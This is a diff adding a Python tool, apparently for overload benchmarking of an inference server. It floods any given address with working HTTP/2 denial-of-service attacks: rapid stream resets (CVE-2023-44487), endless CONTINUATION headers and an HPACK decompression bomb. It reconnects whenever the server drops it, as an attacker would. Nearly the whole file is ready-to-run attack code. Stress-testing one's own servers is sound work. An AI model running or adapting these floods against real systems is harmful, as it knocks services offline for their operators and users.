@@ -1,0 +1,140 @@
+"""Flood a server with HTTP/2 frames that are cheap to send and dear to take, at a bounded rate.
+
+python -m bench.http2_floods ADDRESS KIND PER_S floods until its stdin ends: a line when it begins,
+then as JSON what it did. A connection that the server closes is opened anew, as an attacker would.
+"""
+
+import itertools
+import json
+import select
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from typing import Any
+
+from command_line.extras import optional
+from command_line.parser import positionals
+from measure.overload.http2_peer import Http2Peer, request_headers
+
+frames = optional("hyperframe.frame", "dev")
+hpack = optional("hpack", "dev")
+
+INFER = "/inference.GRPCInferenceService/ModelInfer"
+_CANCEL = 8
+_TICK_S = 0.01
+_MOST_FRAME_BYTES = 16384
+
+
+def resets() -> Iterator[bytes]:
+    """Calls opened and reset at once (CVE-2023-44487), one by one."""
+    block = _request(hpack.Encoder())
+    for number in itertools.count(1, 2):
+        headers = frames.HeadersFrame(number, block, flags=["END_HEADERS"])
+        yield headers.serialize() + frames.RstStreamFrame(number, error_code=_CANCEL).serialize()
+
+
+def endless_headers() -> Iterator[bytes]:
+    """The headers of one call that never end (VU#421644), a full CONTINUATION frame at a time."""
+    encoder = hpack.Encoder()
+    yield frames.HeadersFrame(1, _request(encoder)).serialize()
+    more = [hpack.NeverIndexedHeaderTuple("more", "m" * 1000)] * 16
+    frame = frames.ContinuationFrame(1, encoder.encode(more, huffman=False)).serialize()
+    while True:
+        yield frame
+
+
+def growing_headers() -> Iterator[bytes]:
+    """Calls whose 8 KiB of headers stand for 32 MB (CVE-2016-6581), one by one."""
+    encoder = hpack.Encoder()
+    request = _request(encoder)
+    # 4000 bytes in the table, then bytes that each stand for all of them.
+    first = encoder.encode([("bomb", "b" * 4000)])
+    block = encoder.encode([("bomb", "b" * 4000)]) * 8000
+    assert len(request + first + block) < _MOST_FRAME_BYTES
+    for number in itertools.count(1, 2):
+        yield frames.HeadersFrame(
+            number, request + first + block, flags=["END_HEADERS"]
+        ).serialize()
+        first = b""
+
+
+def _request(encoder: Any) -> bytes:
+    # Never indexed, so that the same bytes mean the same each time.
+    fields = [hpack.NeverIndexedHeaderTuple(*pair) for pair in request_headers(INFER)]
+    block: bytes = encoder.encode(fields)
+    return block
+
+
+FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
+    "rapid reset": resets,
+    "endless headers": endless_headers,
+    "growing headers": growing_headers,
+}
+
+
+def flood(
+    address: str, kind: str, per_s: float, began: threading.Event, ended: threading.Event
+) -> dict[str, float]:
+    """Send `per_s` pieces of a flood a second until `ended`; what was done.
+
+    `began` is set once some were sent. Less is sent where the server takes less: pieces that are
+    late are left out.
+    """
+    sent = connections = 0
+    start = time.monotonic()
+    while not ended.is_set():
+        connections += 1
+        with Http2Peer(address) as peer:
+            if not peer.hello():
+                ended.wait(_TICK_S)
+                continue
+            pieces = FLOODS[kind]()
+            due = 0.0
+            at = time.monotonic()
+            while not ended.wait(_TICK_S) and _is_open(peer):
+                now = time.monotonic()
+                due = due % 1 + per_s * min(now - at, 10 * _TICK_S)
+                at = now
+                try:
+                    peer.socket.sendall(b"".join(itertools.islice(pieces, int(due))))
+                except OSError:
+                    break
+                sent += int(due)
+                if sent:
+                    began.set()
+    elapsed_s = time.monotonic() - start
+    return {"sent": sent, "connections": connections, "per_s": sent / elapsed_s}
+
+
+def _is_open(peer: Http2Peer) -> bool:
+    """Take in what the server said; whether it may say more."""
+    while select.select([peer.socket], [], [], 0)[0]:
+        try:
+            if not peer.socket.recv(2**20):
+                return False
+        except OSError:
+            return False
+    return True
+
+
+def main(argv: list[str]) -> int:
+    """Flood until stdin ends."""
+    address, kind, per_s = argv
+    began, ended = threading.Event(), threading.Event()
+
+    def watch() -> None:
+        began.wait()
+        print("flooding", flush=True)
+        sys.stdin.read()
+        ended.set()
+
+    threading.Thread(target=watch, daemon=True).start()
+    print(json.dumps(flood(address, kind, float(per_s), began, ended)), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(
+        main(positionals("measure.overload.http2_floods", __doc__, "address", "kind", "per_s"))
+    )
